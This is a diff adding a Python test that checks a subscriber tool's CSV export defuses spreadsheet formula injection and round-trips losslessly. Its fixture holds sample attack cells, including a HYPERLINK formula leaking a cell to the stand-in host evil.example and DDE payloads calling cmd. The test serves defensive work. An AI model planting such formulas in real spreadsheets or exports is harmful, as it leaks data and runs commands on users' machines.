@@ -318,3 +318,77 @@ def test_a_row_with_three_problems_lists_all_three(
     )
     assert errors[-1] == f"error: {path}: 1 bad row: nothing imported"
     assert _counts(db_url) == (0, 0)
+
+
+# Cells a spreadsheet would run as formulas (OWASP "CSV injection"): names and topics come
+# from the public form, so an attacker chooses them; `-safety` is a legitimate exclusion.
+HOSTILE = {
+    "formula@example.org": ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "-safety"),
+    "dde@example.org": ("+cmd|' /C calc'!A0", '-"attention heads" retrieval'),
+    "at@example.org": ("@SUM(1+1)*cmd|' /C calc'!A0", "+alignment"),
+    "quoted@example.org": ("'=already quoted", "'-not an exclusion"),
+    "twice@example.org": ("''+two quotes", "'plain quote"),
+    "-dash@example.org": ("Normal Name", "kv cache"),
+}
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _cells(text: str) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_export_is_safe_for_spreadsheets_and_round_trips(
+    invoke: Invoke, tmp_path: Path, db_url: str
+) -> None:
+    for email, (name, topics) in HOSTILE.items():
+        # (`--` before the address: `-dash@…` is an address, not an option)
+        result = invoke(
+            "subscribers", "add", "--name", name, "--topics", topics, "--confirmed", "--", email
+        )
+        assert result.exit_code == 0, result.output
+    exported = invoke("subscribers", "export")
+    assert exported.exit_code == 0, exported.output
+    rows = _cells(exported.stdout)
+    assert rows[0] == list(COLUMNS)
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(TRIGGERS), f"a spreadsheet would run {cell!r}"
+    by_email = {row[0]: row for row in rows[1:]}
+    assert by_email["formula@example.org"][1] == "'" + HOSTILE["formula@example.org"][0]
+    assert by_email["formula@example.org"][2] == "'-safety"
+    assert by_email["'-dash@example.org"][1] == "Normal Name"  # the address is a cell too
+    # a value that already starts with quotes before a trigger keeps them all
+    assert by_email["quoted@example.org"][1:3] == ["''=already quoted", "''-not an exclusion"]
+    assert by_email["twice@example.org"][1:3] == ["'''+two quotes", "'plain quote"]
+
+    # --raw: the stored values as they are, for machines
+    raw = _cells(invoke("subscribers", "export", "--raw").stdout)
+    raw_by_email = {row[0]: row for row in raw[1:]}
+    for email, (name, topics) in HOSTILE.items():
+        assert raw_by_email[email][1:3] == [name, topics]
+
+    # import <- export is lossless: a fresh database gets exactly the stored values back
+    path = tmp_path / "safe.csv"
+    path.write_text(exported.stdout, encoding="utf-8")
+    other = tmp_path / "fresh"
+    other.mkdir()
+    fresh = make_invoke(f"sqlite:///{other / 'fresh.db'}")
+    result = fresh("subscribers", "import", str(path))
+    assert result.exit_code == 0, result.output
+    people = {s["email"]: s for s in json_of(fresh("subscribers", "list", "--json"))}
+    for email, (name, topics) in HOSTILE.items():
+        assert (people[email]["name"], people[email]["topics"]) == (name, topics)
+    assert fresh("subscribers", "export").stdout == exported.stdout
+    # and the raw file imports with --raw just as losslessly
+    raw_path = tmp_path / "raw.csv"
+    raw_path.write_text(invoke("subscribers", "export", "--raw").stdout, encoding="utf-8")
+    third = make_invoke(f"sqlite:///{other / 'third.db'}")
+    assert third("subscribers", "import", str(raw_path), "--raw").exit_code == 0
+    assert third("subscribers", "export").stdout == exported.stdout
+    # importing the safe export over the original changes nothing
+    result = invoke("subscribers", "import", str(path), "--update-existing")
+    assert result.exit_code == 0, result.output
+    assert f"updated 0, unchanged {len(HOSTILE)}" in result.stdout
